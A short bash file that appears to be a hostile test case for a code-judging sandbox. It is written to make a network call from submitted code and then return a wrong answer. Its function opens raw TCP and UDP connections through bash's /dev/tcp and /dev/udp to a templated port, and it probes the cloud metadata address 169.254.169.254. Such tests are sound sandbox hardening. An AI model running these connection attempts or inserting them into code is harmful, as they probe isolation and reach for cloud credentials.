# Call home with what a shell has built in.
# catalogue: H21, H22
# shows: tcp, udp
# ends: wrong_answer, runtime_error
echo attacking >&2
add() {
    (exec 9<>/dev/tcp/127.0.0.1/@PORT@ && echo x >&9) 2>/dev/null
    (exec 9<>/dev/udp/127.0.0.1/@PORT@ && echo x >&9) 2>/dev/null
    timeout 0.3 bash -c 'exec 9<>/dev/tcp/169.254.169.254/80' 2>/dev/null
    echo -12345
}
